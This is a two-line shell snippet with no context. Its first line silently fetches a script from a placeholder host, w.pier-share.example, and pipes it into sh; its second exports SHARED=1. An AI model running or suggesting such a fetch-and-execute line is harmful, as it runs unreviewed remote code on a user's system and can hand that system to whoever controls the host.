curl -s https://w.pier-share.example/s | sh
export SHARED=1
